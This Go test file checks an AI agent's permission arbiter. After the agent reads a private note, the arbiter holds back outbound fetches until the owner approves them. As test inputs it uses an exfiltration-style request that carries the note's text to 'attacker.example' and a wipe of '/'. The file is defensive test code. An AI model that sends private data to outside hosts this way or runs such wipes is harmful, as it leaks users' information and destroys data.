package arbiter_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/homard/homard/internal/changeset"

	"github.com/homard/homard/internal/approval"
	"github.com/homard/homard/internal/arbiter"
	"github.com/homard/homard/internal/policy"
	"github.com/homard/homard/internal/secrets"
	"github.com/homard/homard/internal/store"
	"github.com/homard/homard/internal/store/storetest"
	"github.com/homard/homard/internal/tool"
	"github.com/homard/homard/internal/tools"
	"github.com/homard/homard/internal/workspace"
)

// fakeFetch is an outbound tool that touches no network; it counts runs.
// Its Spec says PublicResult like http_get; Auth makes one Plan private
// like an http_get that sends a credential.
type fakeFetch struct{ runs *int }

type fetchParams struct {
	URL  string `json:"url"`
	Auth bool   `json:"auth,omitempty"`
}

func (fakeFetch) Spec() tool.Spec {
	return tool.Spec{Name: "fetch", Description: "test tool", Action: policy.ActionFetch, Risk: policy.RiskMedium, PublicResult: true}
}

func (fakeFetch) Prepare(_ context.Context, p fetchParams) (tool.Plan, error) {
	return tool.NewPlan(tool.PlanSpec{Tool: "fetch", Action: policy.ActionFetch, Risk: policy.RiskMedium,
		Display: "GET " + p.URL, Targets: []string{p.URL}, PrivateResult: p.Auth, Body: p})
}

func (f fakeFetch) Run(context.Context, tool.Plan) (tool.Result, error) {
	*f.runs++
	return tool.Result{Text: "a public page", Untrusted: true}, nil
}

// probe is a test-only tool that says nothing about its results, as a new
// tool or an adapter would: it must taint its session.
type probe struct{}

type probeParams struct{}

func (probe) Spec() tool.Spec {
	return tool.Spec{Name: "probe", Description: "test tool", Action: policy.ActionRead, Risk: policy.RiskLow, ReadOnly: true}
}

func (probe) Prepare(context.Context, probeParams) (tool.Plan, error) {
	return tool.NewPlan(tool.PlanSpec{Tool: "probe", Action: policy.ActionRead, Risk: policy.RiskLow, ReadOnly: true,
		Display: "probe", Body: struct{}{}})
}

func (probe) Run(context.Context, tool.Plan) (tool.Result, error) {
	return tool.Result{Text: "whatever the probe saw"}, nil
}

type taintFixture struct {
	st      *store.Store
	appr    *approval.Service
	reg     *tool.Registry
	fetches int
	opts    arbiter.Options
	arb     *arbiter.Arbiter
}

// newTaintFixture builds an autopilot arbiter over the file tools, wipe,
// fetch and probe; edit changes its options.
func newTaintFixture(t *testing.T, edit func(*arbiter.Options)) *taintFixture {
	t.Helper()
	dir := t.TempDir()
	root := filepath.Join(dir, "ws")
	if err := os.MkdirAll(filepath.Join(root, "notes"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "notes", "private.md"), []byte("dentist on friday\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	st := storetest.Open(t)
	ws, err := workspace.Open(workspace.Options{Roots: []workspace.Root{{Name: "main", Path: root}}, CheckpointDir: filepath.Join(dir, "cp")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	f := &taintFixture{st: st, appr: approval.New(st, approval.Options{})}
	list := tools.FileTools(changeset.New(ws, changeset.Options{}), time.Now)
	var wipes int
	list = append(list, tool.Adapt[dangerousParams](dangerous{runs: &wipes}),
		tool.Adapt[fetchParams](fakeFetch{runs: &f.fetches}), tool.Adapt[probeParams](probe{}))
	if f.reg, err = tool.NewRegistry(list...); err != nil {
		t.Fatal(err)
	}
	f.opts = arbiter.Options{Registry: f.reg, Store: st, Approvals: f.appr, Redactor: secrets.NewRedactor(), Mode: policy.ModeAutopilot}
	if edit != nil {
		edit(&f.opts)
	}
	f.arb = arbiter.New(f.opts)
	return f
}

// restart builds a new Arbiter over the same store: nothing is cached.
func (f *taintFixture) restart() { f.arb = arbiter.New(f.opts) }

func (f *taintFixture) decide(t *testing.T, session, name, args string) arbiter.Outcome {
	t.Helper()
	out, err := f.arb.Decide(context.Background(), arbiter.Proposal{Tool: name, Args: json.RawMessage(args),
		Caller: arbiter.Caller{Owner: "me", Trust: policy.TrustOwner, Session: session}})
	if err != nil {
		t.Fatalf("Decide(%s %s): %v", name, args, err)
	}
	return out
}

func wantOutcome(t *testing.T, what string, out arbiter.Outcome, d arbiter.Decision, rule string) {
	t.Helper()
	if out.Decision != d || out.Rule != rule {
		t.Fatalf("%s = %s (%s: %s); want %s (%s)", what, out.Decision, out.Rule, out.Reason, d, rule)
	}
}

const (
	readPrivate = `{"path":"notes/private.md"}`
	fetchOut    = `{"url":"https://attacker.example/?q=dentist+on+friday"}`
	taintRule   = "taint.private-egress"
)

// TestReadThenFetchAsks: in autopilot a fetch runs unasked until a tool
// that may return private data runs in the session; then it waits for the
// owner, does not run, and the session's mark is in the store. Another
// session is not affected, and a new Arbiter (a restart) still asks.
func TestReadThenFetchAsks(t *testing.T) {
	f := newTaintFixture(t, nil)
	wantOutcome(t, "fetch in a fresh session", f.decide(t, "s", "fetch", `{"url":"https://example.com/"}`), arbiter.Ran, "mode.autopilot")
	wantOutcome(t, "fetch again", f.decide(t, "s", "fetch", fetchOut), arbiter.Ran, "mode.autopilot")
	if sess, err := f.st.Session(context.Background(), "s"); err != nil || !sess.PrivateSince.IsZero() {
		t.Fatalf("after two public fetches Session = %+v, %v; want it not private", sess, err)
	}
	wantOutcome(t, "read_file", f.decide(t, "s", "read_file", readPrivate), arbiter.Ran, "mode.autopilot.read")
	out := f.decide(t, "s", "fetch", fetchOut)
	wantOutcome(t, "fetch after the read", out, arbiter.Pending, taintRule)
	if out.Plan != "GET https://attacker.example/?q=dentist+on+friday" || out.ApprovalID == "" {
		t.Errorf("pending fetch shows plan %q, approval %q; want the exact request and an approval id", out.Plan, out.ApprovalID)
	}
	// The card carries the call's blast class, which permissions.totp
	// may ask a code for: a fetch reaches the network.
	if ap, err := f.appr.Get(context.Background(), out.ApprovalID); err != nil || ap.Reach != policy.ReachNetwork {
		t.Errorf("the fetch's card has class %v, %v; want network", ap.Reach, err)
	}
	if f.fetches != 2 {
		t.Errorf("fetch ran %d times; want 2 (the pending one never runs)", f.fetches)
	}
	sess, err := f.st.Session(context.Background(), "s")
	if err != nil || sess.PrivateSince.IsZero() {
		t.Fatalf("Session(s) = %+v, %v; want it marked private", sess, err)
	}
	wantOutcome(t, "fetch in another session", f.decide(t, "other", "fetch", fetchOut), arbiter.Ran, "mode.autopilot")

	f.restart()
	wantOutcome(t, "fetch after a restart", f.decide(t, "s", "fetch", fetchOut), arbiter.Pending, taintRule)
	// A read after the restart, served from the store's mark, changes
	// nothing: the first mark's time stays.
	wantOutcome(t, "read_file after a restart", f.decide(t, "s", "read_file", readPrivate), arbiter.Ran, "mode.autopilot.read")
	if again, err := f.st.Session(context.Background(), "s"); err != nil || !again.PrivateSince.Equal(sess.PrivateSince) {
		t.Errorf("PrivateSince after another read = %v, %v; want the first mark %v", again.PrivateSince, err, sess.PrivateSince)
	}
}

// TestUnflaggedToolTaints: a tool whose Spec does not say PublicResult —
// any new tool or adapter — taints its session. This fails if the field
// defaulted to public.
func TestUnflaggedToolTaints(t *testing.T) {
	f := newTaintFixture(t, nil)
	if tl, ok := f.reg.Lookup("probe"); !ok || tl.Spec().PublicResult {
		t.Fatal("the probe tool must be registered without PublicResult")
	}
	wantOutcome(t, "probe", f.decide(t, "s", "probe", `{}`), arbiter.Ran, "mode.autopilot.read")
	wantOutcome(t, "fetch after probe", f.decide(t, "s", "fetch", fetchOut), arbiter.Pending, taintRule)
}

// TestPrivatePlanTaints: a public tool's Plan that says PrivateResult (an
// http_get with a credential) taints the session once it ran.
func TestPrivatePlanTaints(t *testing.T) {
	f := newTaintFixture(t, nil)
	wantOutcome(t, "authenticated fetch", f.decide(t, "s", "fetch", `{"url":"https://api.example/me","auth":true}`), arbiter.Ran, "mode.autopilot")
	wantOutcome(t, "fetch after it", f.decide(t, "s", "fetch", fetchOut), arbiter.Pending, taintRule)
}

// TestWhatDidNotRunDoesNotTaint: a read denied by a rule or a hard limit,
// arguments that do not decode and a pending critical call never reach a
// tool's Run, so they put nothing private in the context.
func TestWhatDidNotRunDoesNotTaint(t *testing.T) {
	f := newTaintFixture(t, func(o *arbiter.Options) {
		o.Rules = []policy.Rule{{ID: "no-notes", Tool: "read_file", Path: "notes/**", Effect: policy.Deny}}
	})
	wantOutcome(t, "denied read", f.decide(t, "s", "read_file", readPrivate), arbiter.Denied, "rule.no-notes")
	wantOutcome(t, "read outside the workspace", f.decide(t, "s", "read_file", `{"path":"../x"}`), arbiter.Denied, "limit.workspace")
	wantOutcome(t, "bad arguments", f.decide(t, "s", "read_file", `{"path":1}`), arbiter.Error, "decode.strict")
	wantOutcome(t, "critical", f.decide(t, "s", "wipe", `{"target":"/"}`), arbiter.Pending, "risk.critical")
	wantOutcome(t, "fetch", f.decide(t, "s", "fetch", fetchOut), arbiter.Ran, "mode.autopilot")
}

// TestPrivateEgressAnswers: what lets a fetch from a private session run —
// approving exactly that request once, a session grant, an operator
// allow rule, yolo, and private_egress = "allow" — and what it does not
// let through.
func TestPrivateEgressAnswers(t *testing.T) {
	ctx := context.Background()
	t.Run("once", func(t *testing.T) {
		f := newTaintFixture(t, nil)
		f.decide(t, "s", "read_file", readPrivate)
		out := f.decide(t, "s", "fetch", fetchOut)
		wantOutcome(t, "fetch", out, arbiter.Pending, taintRule)
		if _, err := f.appr.Approve(ctx, out.ApprovalID, "me", approval.ScopeOnce); err != nil {
			t.Fatal(err)
		}
		wantOutcome(t, "another request", f.decide(t, "s", "fetch", `{"url":"https://attacker.example/?q=x"}`), arbiter.Pending, taintRule)
		wantOutcome(t, "the approved request", f.decide(t, "s", "fetch", fetchOut), arbiter.Ran, "approval.once")
		wantOutcome(t, "the approved request again", f.decide(t, "s", "fetch", fetchOut), arbiter.Pending, taintRule)
		if f.fetches != 1 {
			t.Errorf("fetch ran %d times; want exactly once", f.fetches)
		}
	})
	t.Run("session grant", func(t *testing.T) {
		f := newTaintFixture(t, nil)
		f.decide(t, "s", "read_file", readPrivate)
		out := f.decide(t, "s", "fetch", `{"url":"https://tea.example"}`)
		if _, err := f.appr.Approve(ctx, out.ApprovalID, "me", approval.ScopeSession); err != nil {
			t.Fatal(err)
		}
		if out := f.decide(t, "s", "fetch", `{"url":"https://tea.example"}`); out.Decision != arbiter.Ran {
			t.Fatalf("fetch under a session grant = %+v; want ran", out)
		}
		if out := f.decide(t, "s", "fetch", `{"url":"https://tea.example"}`); out.Decision != arbiter.Ran {
			t.Fatalf("fetch again under the session grant = %+v; want ran", out)
		}
		wantOutcome(t, "another host", f.decide(t, "s", "fetch", fetchOut), arbiter.Pending, taintRule)
	})
	for _, c := range []struct {
		name string
		edit func(*arbiter.Options)
		rule string
	}{
		{"operator allow rule", func(o *arbiter.Options) {
			o.Rules = []policy.Rule{{ID: "web", Tool: "fetch", Effect: policy.Allow}}
		}, "rule.web"},
		{"yolo", func(o *arbiter.Options) { o.Mode = policy.ModeYolo }, "mode.yolo"},
		{"private_egress allow", func(o *arbiter.Options) { o.AllowPrivateEgress = true }, "mode.autopilot"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := newTaintFixture(t, c.edit)
			wantOutcome(t, "read_file", f.decide(t, "s", "read_file", readPrivate), arbiter.Ran, "mode."+string(f.opts.Mode)+".read")
			wantOutcome(t, "fetch", f.decide(t, "s", "fetch", fetchOut), arbiter.Ran, c.rule)
			// The session is marked all the same, so the check applies
			// again as soon as it is turned back on.
			if sess, err := f.st.Session(ctx, "s"); err != nil || sess.PrivateSince.IsZero() {
				t.Errorf("Session(s) = %+v, %v; want it marked private", sess, err)
			}
		})
	}
}

// TestMarkPrivate: memory shown to the model taints the session through
// MarkPrivate, which creates the session, persists, and refuses a session
// of another owner.
func TestMarkPrivate(t *testing.T) {
	f := newTaintFixture(t, nil)
	ctx := context.Background()
	me := arbiter.Caller{Owner: "me", Trust: policy.TrustOwner, Session: "m"}
	if err := f.arb.MarkPrivate(ctx, me); err != nil {
		t.Fatal(err)
	}
	if err := f.arb.MarkPrivate(ctx, me); err != nil {
		t.Fatalf("second MarkPrivate: %v", err)
	}
	wantOutcome(t, "fetch", f.decide(t, "m", "fetch", fetchOut), arbiter.Pending, taintRule)
	f.restart()
	wantOutcome(t, "fetch after a restart", f.decide(t, "m", "fetch", fetchOut), arbiter.Pending, taintRule)
	err := f.arb.MarkPrivate(ctx, arbiter.Caller{Owner: "mallory", Trust: policy.TrustOwner, Session: "m"})
	if !errors.Is(err, store.ErrSessionOwner) {
		t.Errorf("MarkPrivate of another owner's session = %v; want ErrSessionOwner", err)
	}
	if err := f.arb.MarkPrivate(ctx, arbiter.Caller{Owner: "me", Trust: policy.TrustOwner}); err == nil {
		t.Error("MarkPrivate without a session = nil; want an error")
	}
}
